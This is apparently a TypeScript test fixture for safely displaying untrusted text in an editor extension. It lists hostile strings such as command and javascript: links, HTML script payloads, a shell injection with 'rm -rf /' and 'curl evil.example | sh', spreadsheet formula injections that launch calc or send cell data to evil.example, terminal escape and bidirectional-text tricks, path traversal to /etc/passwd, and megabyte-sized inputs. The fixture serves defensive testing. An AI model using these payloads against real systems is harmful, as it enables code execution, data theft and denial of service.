/** One text of each kind that a finding, a tag or a file from outside could carry to do harm where it is shown. */
export const HOSTILE_TEXTS: Readonly<Record<string, string>> = {
  'a command link': '[Fix now](command:workbench.action.terminal.new "Fix")',
  'a command link after a break': '[Fix now]\n(command:workbench.action.terminal.new)',
  'a command link in HTML': '<a href="command:workbench.action.terminal.new">Fix now</a>',
  'a command link by reference': '[Fix][1]\n\n[1]: command:workbench.action.terminal.new',
  'a command link by itself': '<command:workbench.action.terminal.new>',
  'a bare command address': 'command:workbench.action.terminal.new?%5B%22x%22%5D',
  'a link of an editor': '[open](vscode://ms-vscode.cpptools/x) [file](file:///etc/passwd)',
  'a script address': '[x](javascript:alert(1)) <javascript:alert(1)>',
  'a link hidden in blanks': '[x]\u200B(command\u200B:x) [y](\u0001command:x)',
  'a Markdown image': '![x](https://evil.example/beacon.png) ![y][z]\n\n[z]: https://evil.example/z.png',
  'Markdown of all kinds':
    '# h\n> q\n- l\n1. n\n***b*** `c` ~~s~~ | t |\n---\n    code\n```js\nx\n```\n[^1] $x$ ==m==',
  'a table’s end': 'a | b | c |\n| --- | --- | --- |\n| x | y | z |',
  'a mention': '@everyone #1 GH-1 closes #2 user/repo@0123456789abcdef0123456789abcdef01234567',
  'addresses without a scheme':
    'evil.com www.evil.com libc.so me@evil.com //evil.com evil.com:80/x xmpp:me@evil.com',
  'an icon': '$(trash) $(loading~spin) $\u200B(alert)',
  'an image of HTML': '<img src=x onerror=alert(1)><svg/onload=alert(1)><iframe src=//evil.example>',
  'a script’s end': '</script><script>alert(1)</script>',
  'the end of a comment': '--><b>x</b><!-- ]]> <![CDATA[',
  entities: '&lt;img src=x&gt; &#60;b&#62; &amp;#60;',
  'a template': '${process.env.HOME} #{7*7} {{7*7}} <%= 7*7 %> `id` $(id) %s %n ${{ secrets.X }}',
  'a shell': '"; rm -rf / #\' && curl evil.example | sh; $(id) `id` \\',
  'a formula': '=HYPERLINK("https://evil.example?"&A1,"x")',
  'a formula by plus': "+1+cmd|' /C calc'!A0",
  'a formula by minus': "-2+3+cmd|' /C calc'!A0",
  'a formula by at': "@SUM(1+1)*cmd|' /C calc'!A0",
  'a formula after a tab': '\t=1+1',
  'a formula after a return': '\r=1+1',
  'a formula after a byte order mark': '\uFEFF=1+1',
  'a wide formula': '＝1+1',
  'a formula after quotes': '"=1+1","=2+2"',
  'line ends': 'one\r\ntwo\nthree\rfour\u2028five\u2029six\u0085seven\vseven\feight',
  'a forged line': 'x\n::error file=a::b\n##vso[task.complete]\nFROM evil.example/x',
  'colours of a terminal':
    '\u001B[31mred\u001B[0m \u001B]8;;https://evil.example\u0007x\u001B]8;;\u0007 \u009B2J',
  'a title of a terminal': '\u001B]0;pwned\u0007 \u001B[2J\u001B[H \u001BPq\u001B\\',
  'all control characters': String.fromCharCode(...range(0, 0x20), ...range(0x7f, 0xa0)),
  'writing turned around': 'user\u202E gnp.exe\u202C \u2066x\u2069 \u200Fy\u200E \u061Cz',
  'what is not seen': 'a\u200Bb\u200Cc\u200Dd\u2060e\uFEFFf\u00ADg\u{E0041}h\u{E0042}',
  'a NUL': 'a\u0000b',
  'half a character': 'a\uD800b \uDC00c',
  'a noncharacter': '\uFFFE\uFFFF\uE000\u{10FFFF}',
  'marks piled up': `z${'\u0301'.repeat(500)}`,
  'a path upwards': '../../../../etc/passwd\u0000.png ..\\..\\x C:\\x %2e%2e%2f',
  'names of an object': '__proto__',
  'a number': '1e400',
  'nothing but blanks': ' \u00A0\u3000 ',
  'a megabyte': 'x'.repeat(1_000_000),
  'a megabyte of links': '[x](command:x) '.repeat(66_667),
  'a megabyte of blanks': ` ${' '.repeat(1_000_000)}=1`,
  'a megabyte of brackets': '['.repeat(500_000) + ']('.repeat(250_000),
  'a megabyte of quotes': '"'.repeat(1_000_000),
  'a megabyte of lines': '\n'.repeat(1_000_000),
};

function range(from: number, to: number): readonly number[] {
  return Array.from({ length: to - from }, (_, index) => from + index);
}

/** What breaks a line, moves a terminal’s cursor, is not seen, or turns the direction of writing. */
export const UNPRINTABLE = /[\p{Cc}\p{Cf}\p{Cs}\u2028\u2029]/u;
